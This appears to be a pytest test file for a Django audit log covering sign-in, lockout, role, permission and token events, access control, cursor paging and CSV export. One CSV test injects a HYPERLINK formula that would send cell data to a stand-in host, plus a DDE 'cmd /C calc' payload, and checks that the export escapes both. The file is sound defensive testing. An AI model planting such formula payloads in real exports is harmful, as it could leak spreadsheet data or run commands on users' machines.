"""The audit log: every sign-in, failed sign-in, lockout, role, permission and token change,
and every change to money, workplans and progress, for administrators only; filtered, paged
by a cursor that loses nothing, and exported as CSV with formulas made inert."""

import csv
import datetime
import io
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from django.contrib.auth.models import Group, Permission
from django.core.cache import cache
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from lxml import html

from donors.models import Disbursement, FundingAgreement
from donors.services import disbursement_delete, disbursement_update
from organisations.models import ApiToken, Role, SecurityEvent
from organisations.services import membership_set
from organisations.tokens import api_token_create, api_token_revoke
from projects.models import ExchangeRate
from reports import audit
from reports.audit import AuditFilters
from tests.factories import (
    EurAgreementFactory,
    ExchangeRateFactory,
    ImplementerFactory,
    ReceivedDisbursementFactory,
    user_with_role,
)

PASSWORD = "pass-word-123"
URL = "/audit/"
Kind = SecurityEvent.Kind
D = Decimal
KARACHI = ZoneInfo("Asia/Karachi")


@pytest.fixture(autouse=True)
def _limits(settings):
    """The shipped lockout limits; throttle counters start empty."""
    settings.AXES_FAILURE_LIMIT = 5
    settings.CTPORTAL_ADDRESS_FAILURE_LIMIT = 20
    settings.AXES_COOLOFF_TIME = datetime.timedelta(minutes=15)
    cache.clear()
    yield
    cache.clear()


@pytest.fixture
def sana(db):
    return user_with_role(
        Role.COUNTERPART_STAFF, username="sana", first_name="Sana", last_name="Mir"
    )


@pytest.fixture
def auditor(administrator):
    """A browser of its own, signed in as the administrator; the events of the
    administrator's own making and signing in are not what the tests look at."""
    browser = Client()
    browser.force_login(administrator)
    SecurityEvent.objects.filter(user=administrator).delete()
    return browser


@pytest.fixture
def received(db):
    """EUR 300,000 planned for and received on 1 Mar 2023."""
    ExchangeRateFactory(currency="EUR", month=datetime.date(2023, 1, 1), usd_per_unit=D("1.08"))
    return ReceivedDisbursementFactory(
        agreement=EurAgreementFactory(reference="EU-CT-001"),
        planned_date=datetime.date(2023, 3, 1),
        planned_amount=D("300000.00"),
        planned_usd_rate=D("1.08"),
    )


def _sign_in(client, username: str, password: str, **extra):
    return client.post(reverse("login"), {"username": username, "password": password}, **extra)


def _events(**values) -> list[tuple]:
    """(kind, username, user, actor, ip, detail) of every security event, oldest first."""
    return list(
        SecurityEvent.objects.filter(**values)
        .order_by("when", "id")
        .values_list(
            "kind", "username", "user__username", "actor__username", "ip_address", "detail"
        )
    )


def _rows(response) -> list[dict]:
    """The audit table's rows as {column: text}."""
    tree = html.fromstring(response.content)
    rows = []
    for tr in tree.xpath("//table[@data-testid='audit-table']/tbody/tr"):
        cells = [" ".join(td.text_content().split()) for td in tr.xpath("td")]
        rows.append(dict(zip(("when", "event", "what", "who", "details"), cells, strict=True)))
    return rows


def _csv(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


# --- Each kind of event is recorded as it happens ---------------------------------------


def test_a_sign_in_is_recorded_with_its_address_and_browser(client, sana):
    response = _sign_in(
        client, "sana", PASSWORD, REMOTE_ADDR="192.0.2.10", HTTP_USER_AGENT="Firefox/128.0"
    )

    assert response.status_code == 302
    assert _events() == [(Kind.SIGN_IN, "sana", "sana", "sana", "192.0.2.10", "")]
    assert SecurityEvent.objects.get().user_agent == "Firefox/128.0"


def test_a_failed_sign_in_is_recorded_with_the_username_tried(client, sana):
    _sign_in(client, "sana", "guess", REMOTE_ADDR="192.0.2.10")
    _sign_in(client, "nobody-here", "guess", REMOTE_ADDR="192.0.2.11")

    wrong = "Wrong username or password."
    assert _events() == [
        (Kind.SIGN_IN_FAILED, "sana", "sana", None, "192.0.2.10", wrong),
        (Kind.SIGN_IN_FAILED, "nobody-here", None, None, "192.0.2.11", wrong),
    ]


def test_each_attempt_is_one_event_and_the_lock_is_a_lockout(client, sana):
    """Four failures, the fifth locks the account, the sixth is refused while locked."""
    for n in range(6):
        _sign_in(
            client, "sana", "guess", REMOTE_ADDR="203.0.113.7", HTTP_X_FORWARDED_FOR=f"1.2.3.{n}"
        )

    kinds = [kind for kind, *_ in _events()]
    assert kinds == [Kind.SIGN_IN_FAILED] * 4 + [Kind.LOCKED_OUT] * 2
    locked = _events(kind=Kind.LOCKED_OUT)
    assert locked[0] == (
        Kind.LOCKED_OUT,
        "sana",
        "sana",
        None,
        # REMOTE_ADDR, not the client's X-Forwarded-For: no proxy of ours in the test.
        "203.0.113.7",
        "Sign-in refused after 5 failed sign-ins: the account or the address is locked.",
    )


def test_an_administrator_unlocking_an_account_is_recorded(client, sana, administrator):
    for _ in range(5):
        _sign_in(client, "sana", "guess")
    client.force_login(administrator)
    changelist = reverse("admin:auth_user_changelist")
    response = client.post(
        changelist, {"action": "unlock_sign_in", "_selected_action": [sana.pk]}, follow=True
    )

    assert response.status_code == 200
    kind, username, user, actor, ip, detail = _events(kind=Kind.UNLOCKED)[0]
    assert (kind, username, user, actor, ip) == (
        Kind.UNLOCKED,
        "sana",
        "sana",
        "admin",
        "127.0.0.1",
    )
    assert detail == "1 record of failed attempts removed."


def test_a_role_change_through_the_service_is_recorded_from_what_to_what(sana):
    unodc = ImplementerFactory()
    counterpart = sana.membership.organisation.short_name

    membership_set(user=sana, organisation=unodc, role=Role.PROGRAMME_MANAGER)
    membership_set(user=sana, organisation=unodc, role=Role.PROGRAMME_MANAGER)  # no change

    assert _events(kind=Kind.ROLE_CHANGED) == [
        (
            Kind.ROLE_CHANGED,
            "sana",
            "sana",
            None,
            None,
            f"Role: Counterpart staff ({counterpart}) → Programme manager (UNODC).",
        )
    ]


def test_a_role_change_in_the_admin_names_the_administrator(auditor, sana):
    unodc = ImplementerFactory()
    response = auditor.post(
        reverse("admin:organisations_membership_change", args=[sana.membership.pk]),
        {"organisation": unodc.pk, "role": Role.PROGRAMME_MANAGER},
    )

    assert response.status_code == 302
    [event] = _events(kind=Kind.ROLE_CHANGED)
    assert event[2:5] == ("sana", "admin", "127.0.0.1")


def test_making_someone_an_administrator_records_the_role_and_the_flags(sana):
    membership_set(user=sana, organisation=ImplementerFactory(), role=Role.ADMINISTRATOR)

    assert [detail for *_, detail in _events(kind=Kind.PERMISSION_CHANGED)] == [
        "Staff status: No → Yes; Superuser status: No → Yes."
    ]


def test_groups_and_permissions_given_and_taken_are_recorded(sana):
    auditors = Group.objects.create(name="Auditors")
    permission = Permission.objects.get(codename="view_disbursement")

    sana.groups.add(auditors)
    sana.user_permissions.add(permission)
    auditors.user_set.remove(sana)
    sana.user_permissions.clear()
    sana.is_active = False
    sana.save()

    assert [detail for *_, detail in _events(kind=Kind.PERMISSION_CHANGED, user=sana)] == [
        "Given groups: Auditors.",
        "Given permissions: Donors | disbursement | Can view disbursement.",
        "Taken away group: Auditors.",
        "Taken away permissions: Donors | disbursement | Can view disbursement.",
        "Active: Yes → No.",
    ]


def test_a_sign_in_records_no_permission_change(client, sana):
    _sign_in(client, "sana", PASSWORD)

    assert [kind for kind, *_ in _events()] == [Kind.SIGN_IN]


def test_tokens_created_and_revoked_on_the_page_are_recorded(client, sana):
    client.force_login(sana)
    client.post(reverse("account:token-list"), {"name": "monthly export", "expires_in_days": 30})
    token = ApiToken.objects.get()
    client.post(reverse("account:token-revoke", args=[token.pk]))
    client.post(reverse("account:token-revoke", args=[token.pk]))  # twice: one event

    expires = f"{token.expires_at:%Y-%m-%d}"
    assert _events(kind__startswith="token") == [
        (
            Kind.TOKEN_CREATED,
            "sana",
            "sana",
            "sana",
            "127.0.0.1",
            f"Token “monthly export” ({token.prefix}…), expires {expires}.",
        ),
        (
            Kind.TOKEN_REVOKED,
            "sana",
            "sana",
            "sana",
            "127.0.0.1",
            f"Token “monthly export” ({token.prefix}…).",
        ),
    ]


def test_a_token_revoked_by_an_administrator_names_the_administrator(auditor, sana):
    token, _ = api_token_create(user=sana, name="laptop", expires_in_days=10)
    auditor.post(
        reverse("admin:organisations_apitoken_changelist"),
        {"action": "revoke", "_selected_action": [token.pk]},
    )

    [event] = _events(kind=Kind.TOKEN_REVOKED)
    assert event[2:5] == ("sana", "admin", "127.0.0.1")


# --- The page shows them -----------------------------------------------------------------


def test_the_page_lists_security_events_and_a_tranche_change_with_its_reason(
    auditor, client, sana, received, manager
):
    _sign_in(client, "sana", "guess", REMOTE_ADDR="192.0.2.10")
    disbursement_update(
        disbursement=received,
        received_amount=D("290000.00"),
        user=manager,
        reason="The bank kept EUR 10,000 in fees.",
    )

    rows = _rows(auditor.get(URL))

    tranche = rows[0]
    assert (tranche["event"], tranche["what"], tranche["who"]) == (
        "Record changed Disbursement",
        "Changed disbursement planned for 01 Mar 2023",
        manager.username,
    )
    assert "Received amount: EUR 300,000.00 → EUR 290,000.00" in tranche["details"]
    assert "Received amount USD: USD 324,000.00 → USD 313,200.00" in tranche["details"]
    assert "Reason: The bank kept EUR 10,000 in fees." in tranche["details"]
    failed = rows[1]
    assert (failed["event"], failed["what"], failed["who"]) == (
        "Failed sign-in Security",
        "Failed sign-in: Sana Mir",
        "Not signed in",
    )
    assert "Wrong username or password. From 192.0.2.10" in failed["details"]
    # The tranche's creation (by a factory, nobody) comes after: newest first.
    assert rows[2]["what"] == "Created disbursement planned for 01 Mar 2023"
    assert rows[2]["who"] == "System"


def test_a_deleted_tranche_appears_with_its_reason(auditor, received, manager):
    disbursement_delete(disbursement=received, user=manager, reason="Recorded twice.")

    first = _rows(auditor.get(URL, {"object_type": "donors.disbursement"}))[0]
    assert (first["event"], first["what"]) == (
        "Record deleted Disbursement",
        "Deleted disbursement planned for 01 Mar 2023",
    )
    assert "Reason: Recorded twice." in first["details"]


def test_administrators_find_the_page_in_the_menu(auditor):
    items = {item.label: item.url for item in auditor.get("/").context["nav_items"]}

    assert items["Audit log"] == URL


@pytest.mark.parametrize("role", [r for r in Role.values if r != Role.ADMINISTRATOR])
def test_no_other_role_finds_it_in_the_menu(client, db, role):
    client.force_login(user_with_role(role))

    assert "Audit log" not in {item.label for item in client.get("/").context["nav_items"]}


# --- Who may see it ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("role", "status"),
    [
        (Role.ADMINISTRATOR, 200),
        (Role.PROGRAMME_MANAGER, 403),
        (Role.COUNTERPART_STAFF, 403),
        (Role.DONOR_VIEWER, 403),
        (Role.EWG_SECRETARIAT, 403),
    ],
)
@pytest.mark.parametrize("query", ["", "?format=csv", "?kind=sign_in"])
def test_only_administrators_open_the_audit_log(client, db, role, status, query):
    client.force_login(user_with_role(role))

    assert client.get(URL + query).status_code == status


def test_someone_signed_out_is_sent_to_sign_in(client, db):
    response = client.get(URL)

    assert (response.status_code, response["Location"]) == (302, f"{reverse('login')}?next={URL}")


def test_the_page_is_not_cached(auditor):
    assert "no-store" in auditor.get(URL)["Cache-Control"]


# --- Filters -------------------------------------------------------------------------------


@pytest.fixture
def mixed(client, sana, received, manager):
    """A failed sign-in (sana), a sign-in (sana), a token (sana), a tranche change (manager)."""
    _sign_in(client, "sana", "guess")
    _sign_in(client, "sana", PASSWORD)
    api_token_create(user=sana, name="script", expires_in_days=5)
    disbursement_update(
        disbursement=received, received_amount=D("290000.00"), user=manager, reason="Fees."
    )


def _whats(client, **query) -> list[str]:
    response = client.get(URL, query)
    assert response.status_code == 200
    return [row["what"] for row in _rows(response)]


def test_filter_by_kind_of_event(auditor, mixed):
    assert _whats(auditor, kind="sign_in_failed") == ["Failed sign-in: Sana Mir"]
    assert _whats(auditor, kind="token_created") == ["Token created: Sana Mir"]
    assert _whats(auditor, kind="changed") == ["Changed disbursement planned for 01 Mar 2023"]
    # The fixture's rate, agreement and tranche, newest first.
    assert _whats(auditor, kind="created") == [
        "Created disbursement planned for 01 Mar 2023",
        "Created funding agreement",
        "Created exchange rate",
    ]
    assert _whats(auditor, kind="deleted") == []


def test_filter_by_user_finds_what_they_did_and_what_happened_to_them(auditor, mixed, manager):
    assert _whats(auditor, user="SANA") == [
        "Token created: Sana Mir",
        "Sign-in: Sana Mir",
        "Failed sign-in: Sana Mir",
    ]
    assert _whats(auditor, user=manager.username) == [
        "Changed disbursement planned for 01 Mar 2023"
    ]
    assert _whats(auditor, user="nobody-here") == []


def test_filter_by_a_username_nobody_holds_finds_the_attempts_in_that_name(auditor, mixed):
    _sign_in(Client(), "ghost", "guess")

    assert _whats(auditor, user="ghost") == ["Failed sign-in: ghost"]


def test_filter_by_object_type(auditor, mixed):
    assert _whats(auditor, object_type="donors.disbursement") == [
        "Changed disbursement planned for 01 Mar 2023",
        "Created disbursement planned for 01 Mar 2023",
    ]
    assert len(_whats(auditor, object_type="security")) == 3


def test_filter_by_date_range(auditor, mixed):
    SecurityEvent.objects.filter(kind=Kind.SIGN_IN).update(
        when=datetime.datetime(2024, 3, 10, 23, 59, tzinfo=KARACHI)
    )
    Disbursement.history.filter(history_type="~").update(
        history_date=datetime.datetime(2024, 3, 11, 0, 0, tzinfo=KARACHI)
    )

    assert _whats(auditor, date_from="2024-03-10", date_to="2024-03-10") == ["Sign-in: Sana Mir"]
    assert _whats(auditor, date_from="2024-03-10", date_to="2024-03-11") == [
        "Changed disbursement planned for 01 Mar 2023",
        "Sign-in: Sana Mir",
    ]
    assert "Sign-in: Sana Mir" not in _whats(auditor, date_from="2024-03-11")


def test_a_range_that_ends_before_it_starts_is_an_error_on_the_field(auditor, db):
    response = auditor.get(URL, {"date_from": "2024-03-10", "date_to": "2024-03-01"})

    assert response.status_code == 400
    assert response.context["form"].errors == {
        "date_to": ["The end date is before the start date."]
    }


@pytest.mark.parametrize(
    "before", ["yesterday", "2024-01-01T00:00:00~1~x", "2024-01-01T00:00:00~1~2"]
)
def test_a_made_up_cursor_is_refused(auditor, before):
    response = auditor.get(URL, {"before": before})

    assert response.status_code == 400
    assert "This page of the log does not exist" in response.content.decode()


# --- Paging by cursor ---------------------------------------------------------------------


def test_pages_walk_every_event_once_even_when_many_share_a_moment(auditor, received, monkeypatch):
    """Eight events of four sources at one microsecond, and two older ones: pages of two."""
    moment = datetime.datetime(2024, 5, 1, 9, 30, 0, 123456, tzinfo=KARACHI)
    earlier = moment - datetime.timedelta(seconds=1)
    for model in (Disbursement, FundingAgreement, ExchangeRate):
        model.history.update(history_date=moment)
    for n in range(5):
        SecurityEvent.objects.create(kind=Kind.SIGN_IN_FAILED, username=f"u{n}", when=moment)
    for n in range(2):
        SecurityEvent.objects.create(kind=Kind.SIGN_IN_FAILED, username=f"old{n}", when=earlier)
    # With the fixture's exchange rate, agreement and tranche.
    total = 5 + 2 + 3
    monkeypatch.setattr(audit, "PAGE_SIZE", 2)

    seen, url, pages = [], URL, 0
    while url:
        response = auditor.get(url)
        seen += [row["what"] for row in _rows(response)]
        url, pages = response.context["older_url"], pages + 1

    assert len(seen) == total == len(set(seen))
    assert pages == 5
    assert seen[-2:] == ["Failed sign-in: old1", "Failed sign-in: old0"]


def test_a_page_reads_at_most_one_page_and_one_row_from_each_source(received):
    for n in range(30):
        SecurityEvent.objects.create(kind=Kind.SIGN_IN_FAILED, username=f"u{n}")

    with CaptureQueriesContext(connection) as queries:
        page = audit.audit_page(filters=AuditFilters(), page_size=10)

    assert len(page.events) == 10
    assert page.next_cursor is not None
    sources = [q["sql"] for q in queries if "ORDER BY" in q["sql"] and "LIMIT" in q["sql"]]
    # The security events and each of the fifteen historical tables, each asked for 11 rows.
    assert len(sources) == 16
    assert all(sql.rstrip().endswith("LIMIT 11") for sql in sources)


def _one_round(n: int, manager, agreement) -> None:
    """n security events and n tranche changes."""
    for i in range(n):
        SecurityEvent.objects.create(kind=Kind.SIGN_IN, username=f"u{i}")
        tranche = ReceivedDisbursementFactory(
            agreement=agreement,
            planned_date=datetime.date(2023, 3, 1) + datetime.timedelta(days=i),
            planned_amount=D("1000.00"),
            planned_usd_rate=D("1.08"),
        )
        disbursement_update(
            disbursement=tranche, received_amount=D("900.00"), user=manager, reason=f"fix {i}"
        )


def _count_queries(client) -> int:
    with CaptureQueriesContext(connection) as queries:
        assert client.get(URL).status_code == 200
    return len(queries)


def test_the_query_count_is_the_same_for_one_and_five_events_of_each_kind(
    auditor, manager, received
):
    agreement = received.agreement
    _one_round(1, manager, agreement)
    one = _count_queries(auditor)
    _one_round(4, manager, agreement)
    five = _count_queries(auditor)

    assert len(_rows(auditor.get(URL))) > 10
    assert one == five


# --- CSV ---------------------------------------------------------------------------------


def test_the_csv_has_the_rows_of_the_page_with_formulas_made_inert(
    auditor, client, sana, received, manager
):
    _sign_in(
        client,
        "sana",
        "guess",
        REMOTE_ADDR="192.0.2.10",
        HTTP_USER_AGENT='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    )
    disbursement_update(
        disbursement=received,
        received_amount=D("290000.00"),
        user=manager,
        reason="@SUM(1+1)*cmd|' /C calc'!A0",
    )

    page_rows = _rows(auditor.get(URL))
    response = auditor.get(URL, {"format": "csv"})
    header, *rows = _csv(response)

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="audit-')
    assert header == [
        "When", "Event", "Object type", "What", "Who", "Changes", "Reason", "Detail",
        "IP address", "User agent",
    ]  # fmt: skip
    assert [(r[3], r[4]) for r in rows] == [(r["what"], r["who"]) for r in page_rows]
    changed, failed = rows[0], rows[1]
    assert changed[1:3] == ["Record changed", "Disbursement"]
    assert "Received amount: EUR 300,000.00 → EUR 290,000.00" in changed[5]
    assert changed[6] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert failed[7:] == [
        "Wrong username or password.",
        "192.0.2.10",
        '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    ]
    assert datetime.datetime.fromisoformat(changed[0]).tzinfo is not None


def test_the_csv_follows_the_filters(auditor, mixed):
    rows = _csv(auditor.get(URL, {"format": "csv", "kind": "sign_in"}))[1:]

    assert [r[3] for r in rows] == ["Sign-in: Sana Mir"]


def test_the_csv_reads_past_one_chunk(auditor, db, monkeypatch):
    for n in range(7):
        SecurityEvent.objects.create(kind=Kind.SIGN_IN, username=f"u{n}")
    monkeypatch.setattr(audit, "EXPORT_CHUNK", 3)

    rows = _csv(auditor.get(URL, {"format": "csv", "object_type": "security"}))[1:]

    assert [r[3] for r in rows] == [f"Sign-in: u{n}" for n in reversed(range(7))]


def test_revoking_through_the_service_alone_also_records(sana):
    token, _ = api_token_create(user=sana, name="x", expires_in_days=1)
    api_token_revoke(token=token, user=sana)

    assert [kind for kind, *_ in _events()] == [Kind.TOKEN_CREATED, Kind.TOKEN_REVOKED]
